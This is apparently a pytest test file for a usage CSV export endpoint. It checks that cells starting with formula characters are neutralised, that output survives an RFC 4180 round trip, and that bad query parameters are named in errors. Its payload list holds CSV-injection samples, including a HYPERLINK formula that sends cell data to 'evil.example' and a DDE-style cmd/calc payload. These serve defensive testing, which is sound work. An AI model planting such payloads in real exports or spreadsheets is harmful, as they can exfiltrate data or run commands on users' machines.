"""CSV cells of ``GET /export/usage.csv`` (``gql_usage.http.export``): formula-like
cells are neutralised, every cell survives an RFC 4180 round trip, and the query
parameters are parsed or refused naming the parameter. Pure: no database."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gql_usage.http.export import (
    COLUMNS,
    ExportError,
    csv_lines,
    neutralise,
    parse_request,
)

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = ['HYPERLINK("http://evil.example/?d="&A1,"x")', "1+1", "cmd|' /C calc'!A0",
            "SUM(A1:A2)", "", "\n=1", '"', ",", "\r\n"]


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("start", FORMULA_STARTS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_start_is_neutralised(start, payload):
    cell = start + payload
    assert neutralise(cell) == "'" + cell
    assert parsed(csv_lines([[cell, 1]])) == [["'" + cell, "1"]]


@pytest.mark.parametrize("cell", ["/v2/person", "a=b", "1+1", "'quoted", "", " =1",
                                  "prospecting/contact/enrich", "ü€", "x\n=1", 'x"y'])
def test_other_cells_are_left_as_they_are(cell):
    assert neutralise(cell) == cell
    assert parsed(csv_lines([[cell]])) == [[cell]]


def test_lines_are_rfc_4180():
    text = csv_lines([COLUMNS, ["2026-01-01T00:00:00+00:00", "", 'a "b", c', "x\r\ny", 0, 12]])
    assert text == ("bucket_start,bucket_end,key,label,calls,credits\r\n"
                    '2026-01-01T00:00:00+00:00,,"a ""b"", c","x\r\ny",0,12\r\n')
    # Numbers are written as they are (never neutralised: counts are never negative).
    assert csv_lines([[-1]]) == "-1\r\n"


@given(st.text())
def test_any_text_comes_back_neutralised_and_recoverable(cell):
    [[back]] = parsed(csv_lines([[cell]]))
    assert back == neutralise(cell)
    assert not back.startswith(FORMULA_STARTS)
    assert back == cell or (back == "'" + cell and cell.startswith(FORMULA_STARTS))


def test_parameters_are_parsed_as_graphql_parses_a_usage_filter():
    asked = parse_request([("from", "2026-01-01T00:00:00Z"), ("to", "2026-01-02"),
                           ("granularity", "HOUR"), ("by", "USER"), ("endpoints", "/a,b"),
                           ("endpoints", "/c"), ("userIds", "VXNlcjp1")])
    f = asked.filter
    assert f.from_.isoformat() == "2026-01-01T00:00:00+00:00"
    assert f.to.isoformat() == "2026-01-02T00:00:00"  # no offset: the filter's zone
    assert (asked.granularity.value, asked.by and asked.by.value) == ("HOUR", "USER")
    assert f.endpoints == ["/a,b", "/c"] and f.user_ids == ["VXNlcjp1"]
    assert f.api_key_ids is None and f.sources is None and f.time_zone is None


@pytest.mark.parametrize(("items", "parameter"), [
    ([], "from"),
    ([("from", "2026-01-01"), ("to", "2026-01-02")], "granularity"),
    ([("from", "2026-01-01"), ("from", "2026-01-01")], "from"),
    ([("from", "x"), ("to", "2026-01-02"), ("granularity", "DAY")], "from"),
    ([("from", "2026-01-01"), ("to", "2026-01-02"), ("granularity", "HOURLY")],
     "granularity"),
    ([("from", "2026-01-01"), ("to", "2026-01-02"), ("granularity", "DAY"), ("by", "KEY")],
     "by"),
    ([("endpoint", "/v2/person")], "endpoint"),
])
def test_bad_parameters_are_named(items, parameter):
    with pytest.raises(ExportError) as raised:
        parse_request(items)
    assert raised.value.status == 400 and raised.value.code == "BAD_USER_INPUT"
    assert raised.value.extra == {"parameter": parameter}
    assert str(raised.value).startswith(f"{parameter}: ")
